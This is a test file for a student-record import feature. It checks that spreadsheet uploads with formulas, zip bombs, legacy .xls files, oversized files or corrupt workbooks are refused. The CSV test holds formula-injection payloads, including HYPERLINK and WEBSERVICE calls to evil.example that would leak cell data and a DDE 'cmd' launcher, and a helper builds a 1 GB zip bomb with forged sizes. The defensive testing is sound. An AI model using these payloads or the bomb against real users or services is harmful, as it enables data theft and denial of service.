// @vitest-environment node
import { readdirSync } from 'node:fs';
import { deflateRawSync, constants as zlibConstants } from 'node:zlib';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';

import { codeOf } from './harness.js';
import { checkImport, importFinished, parseCsv, runImport, useImportApp } from './importHarness.js';

/**
 * Import files other than a clean CSV (issue 10): an .xlsx workbook imports like the CSV it holds; a formula cell, an
 * old .xls, a zip bomb, a broken workbook, a 50 MB file and formula text in a CSV are refused with catalogue errors and
 * nothing stored; the apostrophe the export puts before = + - @ comes off again. PGlite and PostgreSQL.
 */
const app = useImportApp();

const XLSX_MIME = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const studentRows = () => app.t.db.selectFrom('students').selectAll().where('company_id', '=', app.companyId).orderBy('id').execute();
const withoutUpdatedAt = (rows: Array<Record<string, unknown>>) => rows.map(({ updated_at: _u, ...r }) => r);

async function exportRows(): Promise<string[][]> {
  const res = await app.t.app.inject({ method: 'GET', url: '/api/v1/students/export', headers: await app.t.authAs('staff') });
  expect(res.statusCode).toBe(200);
  return parseCsv(res.body.replace(/^\ufeff/, ''));
}

const check = (bytes: Buffer, options: { name?: string; type?: string } = {}) => checkImport(app.t, { bytes, name: options.name ?? 'students.xlsx', type: options.type ?? XLSX_MIME });
const run = (id: number) => runImport(app.t, id);
const finished = (id: number) => importFinished(app.t, id);

/** The workbook Excel would save from rows (every cell text; `edit` changes cells after). */
async function workbook(rows: string[][], edit?: (sheet: ExcelJS.Worksheet) => void): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('生徒');
  for (const row of rows) sheet.addRow(row);
  edit?.(sheet);
  return Buffer.from(await book.xlsx.writeBuffer());
}

/** What nothing stored means: the import jobs and the files of the storage. */
async function storedState() {
  const jobs = await app.t.db.selectFrom('import_jobs').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
  const files = readdirSync(app.t.filesDir, { recursive: true }).length;
  return { jobs: Number(jobs.n), files };
}

/**
 * An .xlsx-looking zip ([Content_Types].xml first, as Excel writes it, so the type is detected as xlsx) whose sheet
 * inflates to 1 GB of zeros from about 1 MB: `declare` is the sheet's uncompressed size its headers give.
 */
function zipBomb(declare?: number): Buffer {
  // Deflated zeros, flushed without ending the stream: copies of it one after the other are still one deflate stream.
  const chunk = deflateRawSync(Buffer.alloc(16 * 1024 * 1024), { finishFlush: zlibConstants.Z_SYNC_FLUSH });
  const bomb = Buffer.concat([...Array.from({ length: 64 }, () => chunk), Buffer.from([0x03, 0x00])]);
  const types = Buffer.from(`<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`);
  const entries = [
    { name: '[Content_Types].xml', body: deflateRawSync(types), size: types.length },
    { name: 'xl/worksheets/sheet1.xml', body: bomb, size: declare ?? 1024 * 1024 * 1024 },
  ];
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(e.body.length, 18);
    local.writeUInt32LE(e.size, 22);
    local.writeUInt16LE(name.length, 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(8, 10);
    dir.writeUInt32LE(e.body.length, 20);
    dir.writeUInt32LE(e.size, 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    parts.push(local, name, e.body);
    central.push(dir, name);
    offset += 30 + name.length + e.body.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, directory, end]);
}

describe('data import files', () => {
  it('should import an .xlsx workbook of the student export exactly as its CSV', async () => {
    const rows = await exportRows();
    const before = await studentRows();
    const xlsx = await check(await workbook(rows));
    expect(xlsx.statusCode, xlsx.body).toBe(200);
    const csv = await check(Buffer.from(Papa.unparse(rows), 'utf8'), { name: 'students.csv', type: 'text/csv' });
    const fromXlsx = xlsx.json() as { import_job_id: number; encoding: string; sample: string[][]; columns: string[]; errors: unknown[]; total_rows: number };
    const fromCsv = csv.json() as typeof fromXlsx;
    expect(fromXlsx).toMatchObject({ encoding: 'xlsx', errors: [], total_rows: before.length });
    expect([fromXlsx.columns, fromXlsx.sample]).toEqual([fromCsv.columns, fromCsv.sample]);
    expect((await run(fromXlsx.import_job_id)).statusCode).toBe(200);
    expect(await finished(fromXlsx.import_job_id)).toMatchObject({ status: 'succeeded', inserted_rows: 0, updated_rows: before.length });
    expect(withoutUpdatedAt(await studentRows())).toEqual(withoutUpdatedAt(before));
  });

  it('should refuse a formula cell (never its cached result) and import nothing', async () => {
    const rows = await exportRows();
    const family = rows[0]!.indexOf('姓');
    const bytes = await workbook(rows, (sheet) => {
      sheet.getRow(3).getCell(family + 1).value = { formula: 'HYPERLINK("https://evil.example/","山田")', result: '山田' };
    });
    const before = await studentRows();
    const answer = (await check(bytes)).json() as { import_job_id: number; errors: Array<{ row: number; column: string; message: string }> };
    expect(answer.errors).toEqual([{ row: 3, column: '姓', message: expect.stringMatching(/数式は取り込めません/) }]);
    expect(codeOf(await run(answer.import_job_id))).toBe(10404);
    expect(await studentRows()).toEqual(before);
  });

  it('should refuse an old .xls with a message to save it as .xlsx or CSV', async () => {
    const xls = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096)]);
    const refused = await check(xls, { name: 'students.xls', type: 'application/vnd.ms-excel' });
    expect(refused.statusCode).toBe(415);
    expect(refused.json()).toMatchObject({ code: 10411, message: expect.stringMatching(/\.xls.*\.xlsx か CSV/) });
    // Renamed to .xlsx, it is still not a workbook.
    expect(codeOf(await check(xls))).toBe(10401);
  });

  it('should refuse a zip bomb quickly, whether its sizes are declared or forged, and store nothing', async () => {
    const before = await storedState();
    for (const declare of [undefined, 4096]) {
      const started = Date.now();
      const res = await check(zipBomb(declare));
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json()).toMatchObject({ code: 10412, message: expect.stringMatching(/展開/) });
      expect(Date.now() - started).toBeLessThan(5000);
    }
    expect(await storedState()).toEqual(before);
  });

  it('should refuse random bytes, a zip that is no workbook and a truncated workbook as unreadable', async () => {
    const before = await storedState();
    const random = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256));
    expect(codeOf(await check(random))).toBe(10401);
    const good = await workbook(await exportRows());
    expect(codeOf(await check(good.subarray(0, Math.floor(good.length / 2))))).toBe(10401);
    const notWorkbook = await workbook([['a']]);
    // The same zip without its workbook part: a zip, not a spreadsheet.
    const broken = Buffer.from(notWorkbook.toString('latin1').replace('xl/workbook.xml', 'xl/workbook.xmm'), 'latin1');
    const answer = await check(broken);
    expect(answer.statusCode, answer.body).toBe(400);
    expect(answer.json()).toMatchObject({ code: 10401, message: expect.stringMatching(/xlsx/) });
    expect(await storedState()).toEqual(before);
  });

  it('should refuse a 50 MB file with the import message and store nothing', async () => {
    const before = await storedState();
    const line = `${'S9999,山田,太郎,,,本校,中学1年,,継続,'.padEnd(99, ' ')}\n`;
    const big = Buffer.from(line.repeat(50 * 1024 * 1024 / line.length + 1));
    const res = await check(big, { name: 'students.csv', type: 'text/csv' });
    expect(res.statusCode).toBe(413);
    expect(res.json()).toMatchObject({ code: 10410, message: 'ファイルが大きすぎます（上限 20MB）。行を分けて、いくつかのファイルで取り込んでください。' });
    expect(await storedState()).toEqual(before);
  });

  it('should refuse CSV text a spreadsheet would run as a formula, and take back the export\'s apostrophe', async () => {
    const rows = await exportRows();
    const header = rows[0]!;
    const col = (label: string) => header.indexOf(label);
    // Every cell the export would neutralise (=, +, - or @ after optional blanks, src/shared/spreadsheetFormula.ts) is
    // a formula here too, the review's quoted ones among them; a plain number and the export's apostrophe are data.
    const formulas = [
      '=HYPERLINK("https://evil.example/?"&A1,"詳細")', '\t@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1',
      '=1+HYPERLINK("https://evil.example/","x")', '=(HYPERLINK("https://evil.example/"))', '="a"&HYPERLINK("https://evil.example/")',
      '= 0+WEBSERVICE("https://evil.example/")',
    ];
    const data = ['\'=1+HYPERLINK("x")', '-5'];
    const injected = rows.slice(1, 1 + formulas.length + data.length).map((r) => [...r]);
    [...formulas, ...data].forEach((cell, i) => { injected[i]![col('名')] = cell; });
    const answer = (await check(Buffer.from(Papa.unparse([header, ...injected]), 'utf8'), { name: 'students.csv', type: 'text/csv' })).json() as { errors: Array<{ row: number; column: string; message: string }> };
    expect(answer.errors).toEqual(formulas.map((_, i) => ({ row: i + 2, column: '名', message: expect.stringMatching(/数式.*取り込めません/) })));

    // A student named like a formula: the export writes '=1+1 and '-5, the import reads =1+1 and -5 again.
    const first = await app.t.db.selectFrom('students').select(['id', 'first_name_kanji', 'family_name_kanji']).where('company_id', '=', app.companyId).orderBy('id').executeTakeFirstOrThrow();
    await app.t.db.updateTable('students').set({ first_name_kanji: '=1+1', family_name_kanji: '-5' }).where('id', '=', first.id).execute();
    try {
      const exported = await app.t.app.inject({ method: 'GET', url: '/api/v1/students/export', headers: await app.t.authAs('staff') });
      expect(exported.body).toContain('\'=1+1');
      const before = await studentRows();
      const checked = (await check(Buffer.from(exported.body, 'utf8'), { name: 'students.csv', type: 'text/csv' })).json() as { import_job_id: number; errors: unknown[] };
      expect(checked.errors).toEqual([]);
      await run(checked.import_job_id);
      expect(await finished(checked.import_job_id)).toMatchObject({ status: 'succeeded' });
      const after = await studentRows();
      expect(withoutUpdatedAt(after)).toEqual(withoutUpdatedAt(before));
      expect(after.find((s) => s.id === first.id)).toMatchObject({ first_name_kanji: '=1+1', family_name_kanji: '-5' });
    } finally {
      await app.t.db.updateTable('students').set({ first_name_kanji: first.first_name_kanji, family_name_kanji: first.family_name_kanji }).where('id', '=', first.id).execute();
    }
  });
});
